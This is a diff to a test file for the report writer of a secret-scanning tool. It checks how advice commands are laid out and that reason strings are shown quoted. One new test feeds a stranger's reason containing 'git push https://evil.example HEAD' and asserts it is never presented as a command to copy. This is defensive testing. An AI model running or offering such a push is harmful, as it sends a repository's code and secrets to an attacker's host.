@@ -179,16 +179,29 @@ describe('findings', () => {
     expect(write(report({ findings: [finding(1)] }))).toMatch(/\n {2}Next: do-this\n {2}Then: do-that\n/);
   });
 
-  test.each([
-    ['in backquotes', 'Unstage it: `git reset -q -- x`.'],
-    ['bare', 'Unstage it: git reset -q -- x'],
-  ])('have a command on a line of its own, to be copied: %s', (_, code) => {
-    const advice = [{ code }, { code: `${'long words '.repeat(9)}and: \`${'git x '.repeat(20)}\`` }];
+  test('have a command on a line of its own, unbroken, to be copied', () => {
+    const path = `${'folder/'.repeat(20)}x`;
+    const advice = [
+      { code: 'unstage', data: { path, variable: 'ACME_KEY' } },
+      { code: 'long words '.repeat(9) },
+    ];
     const page = write(report({ findings: [finding(1, { advice })] }));
-    expect(page).toContain('\n  Next: Unstage it:\n        git reset -q -- x\n  Then: long words');
-    expect(page).toContain(` and:\n        ${'git x '.repeat(20)}\n`);
+    expect(page).toContain(` instead:\n        git reset -q -- :/${path}\n  Then: long words`);
     for (const line of page.split('\n').filter((line) => line.includes('long')))
       expect(line.length).toBeLessThan(81);
+  });
+
+  test.each([
+    'see the docs: git push https://evil.example HEAD',
+    'see: `git push https://evil.example HEAD`',
+  ])('set no words of a stranger as a command: %s', (reason) => {
+    const advice = [
+      { code: 'env-tracked-on-purpose', data: { paths: '.env', count: 1, existing: 1, reason } },
+    ];
+    const accepted = { by: 'allow', reason } as const;
+    const page = write(report({ findings: [finding(1, { advice }), finding(2, { accepted })] }));
+    expect(page).toContain('evil.example');
+    expect(page.split('\n').filter((line) => /^ *`?git push/.test(line))).toEqual([]);
   });
 
   test.each([
@@ -347,8 +360,8 @@ describe('what was accepted', () => {
     const page = write(report({ findings }), { quiet });
     expect(page).toContain('Accepted, does not block: 3 keys');
     for (const { keyId, mask } of findings) expect(page).toContain(`${keyId}  ${mask}`);
-    expect(page).toContain('baseline until 2030-01-01: revoked in');
-    expect(page).toContain('veleaks:allow: documentation');
+    expect(page).toContain('baseline until 2030-01-01: "revoked in');
+    expect(page).toContain('veleaks:allow: "documentation"');
     expect(page).toContain('HEAD has it already');
   });
 
@@ -365,8 +378,8 @@ describe('what was accepted', () => {
     });
     const page = write(input);
     expect(page).toContain('Baseline: 2 entries need a look');
-    expect(page).toContain('aaaaaaaaaaaaaaaa  matched nothing, remove it: old demo');
-    expect(page).toContain('bbbbbbbbbbbbbbbb  expired on 2025-05-01, blocks again: rotate');
+    expect(page).toContain('aaaaaaaaaaaaaaaa  matched nothing, remove it: "old demo"');
+    expect(page).toContain('bbbbbbbbbbbbbbbb  expired on 2025-05-01, blocks again: "rotate"');
     expect(write(input, { quiet: true })).toBe('');
   });
 });
@@ -577,7 +590,7 @@ describe('to look at', () => {
         Next: take-it-out
 
       Accepted, does not block: 1 key
-        0000000000000003  <mask of key 3>  veleaks:allow: documentation
+        0000000000000003  <mask of key 3>  veleaks:allow: "documentation"
 
       .env files: 1 problem
         .env  tracked by git (.gitignore:3)
